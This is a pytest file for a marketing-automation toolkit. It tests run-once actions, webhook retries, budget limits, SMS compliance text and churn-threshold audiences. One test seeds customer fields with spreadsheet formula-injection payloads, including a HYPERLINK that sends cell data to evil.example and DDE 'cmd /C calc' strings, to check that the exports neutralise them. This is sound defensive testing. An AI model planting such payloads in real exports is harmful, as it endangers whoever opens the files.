"""Actions run exactly once per approved request, exclude non-consenting customers, deliver to a webhook, and
export files that carry no formulas."""

import csv
import json
import threading
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.agent.conftest import seed_churn_run
from tools.actions.audiences import AudienceParams, create_audience
from tools.actions.budgets import BudgetChange, update_budget
from tools.actions.sends import ScheduleParams, schedule_campaign
from tools.registry import ToolContext, ToolError
from tools.warehouse import connect


class Hook:
    def __init__(self, statuses):
        self.statuses, self.calls = list(statuses), []
        hook = self

        class H(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_POST(self):
                hook.calls.append((self.headers.get("Idempotency-Key"),
                                   json.loads(self.rfile.read(int(self.headers["Content-Length"])))))
                self.send_response(hook.statuses.pop(0) if hook.statuses else 200)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), H)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"


def _ctx(home, **kw):
    return ToolContext(home=home, user="ana", role="approver", thread_id="t-1", request_id="call-1", **kw)


def test_same_request_executes_once(demo_copy):
    seed_churn_run(demo_copy)
    con = connect(demo_copy / "warehouse.duckdb")
    first = create_audience(con, AudienceParams(name="Once"), _ctx(demo_copy))
    again = create_audience(con, AudienceParams(name="Once"), _ctx(demo_copy))  # e.g. resumed after a crash
    assert again.action_id == first.action_id
    assert con.execute("SELECT count(*) FROM outbox").fetchone()[0] == 1
    assert con.execute("SELECT count(*) FROM audiences").fetchone()[0] == 1
    size = con.execute("SELECT count(*) FROM audience_members").fetchone()[0]
    assert size == first.metrics["size"] > 0
    assert (demo_copy / "outbox" / f"audience_{first.action_id}.csv").read_text().count("\n") == size + 1


def test_webhook_retries_then_delivers_with_idempotency_key(demo_copy):
    seed_churn_run(demo_copy)
    hook = Hook([503, 200])
    con = connect(demo_copy / "warehouse.duckdb")
    res = create_audience(con, AudienceParams(name="Hooked"), _ctx(demo_copy, webhook_url=hook.url))
    status, attempts = con.execute("SELECT status, attempts FROM outbox").fetchone()
    assert (status, attempts) == ("delivered", 2) and res.metrics["delivery"] == "delivered"
    assert [k for k, _ in hook.calls] == [res.action_id, res.action_id]


def test_webhook_failure_is_recorded_and_outbox_stays_consistent(demo_copy):
    seed_churn_run(demo_copy)
    hook = Hook([400])
    con = connect(demo_copy / "warehouse.duckdb")
    res = create_audience(con, AudienceParams(name="Rejected by hook"), _ctx(demo_copy, webhook_url=hook.url))
    status, error = con.execute("SELECT status, last_error FROM outbox").fetchone()
    assert status == "dead" and "400" in error and res.metrics["delivery"] == "failed"
    assert con.execute("SELECT count(*) FROM audiences").fetchone()[0] == 1  # the action itself stands
    audited = con.execute("SELECT name, args, outcome, detail FROM audit_log WHERE kind = 'delivery'").fetchall()
    assert [(n, json.loads(a), o) for n, a, o, _ in audited] == [
        ("create_audience", {"action_id": res.action_id, "attempt": 1}, "dead")]
    assert "HTTP 400" in audited[0][3]


def test_budget_bound_and_failed_action_leaves_no_trace(demo_copy):
    con = connect(demo_copy / "warehouse.duckdb")
    with pytest.raises(ToolError, match="exceeds"):
        update_budget(con, BudgetChange(daily_budgets={"search": 1e6}), _ctx(demo_copy))
    assert con.execute("SELECT count(*) FROM outbox").fetchone()[0] == 0
    assert con.execute("SELECT count(*) FROM budget_plans").fetchone()[0] == 0


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1dSUM(A1)"]


def _cells(path) -> dict[int, str]:
    with open(path, newline="") as fh:
        return {int(row[0]): row[1] for row in list(csv.reader(fh))[1:]}


def test_exports_carry_no_formulas(demo_copy):
    """Finding 7: customer fields that begin like a formula are neutralised (OWASP): a leading ' and quotes."""
    con = connect(demo_copy / "warehouse.duckdb")
    ids = [r[0] for r in con.execute("""SELECT c.customer_id FROM customers c JOIN consent s USING (customer_id)
        WHERE c.marketing_opt_in AND s.channel = 'sms' AND s.opted_in ORDER BY 1 LIMIT ?""",
                                     [len(FORMULAS) + 1]).fetchall()]
    evil, plain = ids[:-1], ids[-1]
    con.executemany("UPDATE customers SET email = ?, phone = ? WHERE customer_id = ?",
                    [[f, f, i] for f, i in zip(FORMULAS, evil, strict=True)])
    con.execute("UPDATE customers SET email = 'ana@example.com', phone = '07700 900123' WHERE customer_id = ?",
                [plain])
    res = create_audience(con, AudienceParams(name="Formulas", source="customers", customer_ids=ids),
                          _ctx(demo_copy))
    export = demo_copy / "outbox" / f"audience_{res.action_id}.csv"
    cells = _cells(export)
    assert cells == {**{i: "'" + f for f, i in zip(FORMULAS, evil, strict=True)}, plain: "ana@example.com"}
    raw = export.read_bytes().decode()  # every text field quoted (quotes inside doubled)
    assert all('"' + ("'" + f).replace('"', '""') + '"' in raw for f in FORMULAS) and '"ana@example.com"' in raw
    send = schedule_campaign(con, ScheduleParams(audience="Formulas", channel="sms", holdout_pct=0.0,
                                                 variant="Fieldhouse: your picks are in. Reply STOP to opt out",
                                                 send_at=datetime(2026, 10, 5, 9)), _ctx(demo_copy))
    phones = _cells(demo_copy / "outbox" / send.metrics["export"])
    assert phones == {**{i: "'" + f for f, i in zip(FORMULAS, evil, strict=True)}, plain: "07700 900123"}


def test_an_sms_lacking_only_the_required_sender_and_opt_out_gets_them_and_the_approver_sees_it(demo_copy):
    from tools.actions.sends import preview_schedule_campaign

    seed_churn_run(demo_copy)
    con = connect(demo_copy / "warehouse.duckdb")
    create_audience(con, AudienceParams(name="Texts", channel="sms"), _ctx(demo_copy))
    params = ScheduleParams(audience="Texts", channel="sms", variant="Your favourites are back in stock",
                            send_at=datetime(2026, 10, 5, 10, 30))
    preview = preview_schedule_campaign(con, params, _ctx(demo_copy))
    full = "Fieldhouse: Your favourites are back in stock. Reply STOP to opt out"
    assert preview["compliance"] == [] and preview["variant"] == full and preview["pinned"] == {"variant": full}
    assert "required parts were added" in preview["description"]  # the approver reads the text that goes out
    sent = schedule_campaign(con, params, _ctx(demo_copy))  # run directly, unpinned: the same text is recorded
    assert sent.metrics["variant"] == full
    with pytest.raises(ToolError, match="compliance"):  # anything else wrong is still refused, never rewritten
        schedule_campaign(con, ScheduleParams(audience="Texts", channel="sms", variant="GUARANTEED results!!!",
                                              send_at=datetime(2026, 10, 5, 10, 30)), _ctx(demo_copy))


def test_a_probability_threshold_alone_takes_every_band_above_it(demo_copy):
    """"Everyone at p(churn) >= 0.7": the default band (high) does not silently drop the medium-risk above it; a
    band said as well still narrows it."""
    seed_churn_run(demo_copy)  # 400 customers at p ≈ 0.9, half 'high', half 'medium'
    con = connect(demo_copy / "warehouse.duckdb")
    assert AudienceParams(name="xy", min_probability=0.7).risk_band is None
    assert AudienceParams(name="xy").risk_band == "high"
    threshold = create_audience(con, AudienceParams(name="Above 0.7", min_probability=0.7), _ctx(demo_copy))
    both = create_audience(con, AudienceParams(name="High above 0.7", min_probability=0.7, risk_band="high"),
                           ToolContext(home=demo_copy, user="ana", role="approver", thread_id="t-1",
                                       request_id="call-2"))
    scored = con.execute("SELECT count(*) FROM churn_scores WHERE run_id = 'churn-test'").fetchone()[0]
    high = con.execute("SELECT count(*) FROM churn_scores WHERE run_id = 'churn-test' AND risk_band = 'high'").fetchone()[0]
    assert scored >= threshold.metrics["size"] > high >= both.metrics["size"] > 0
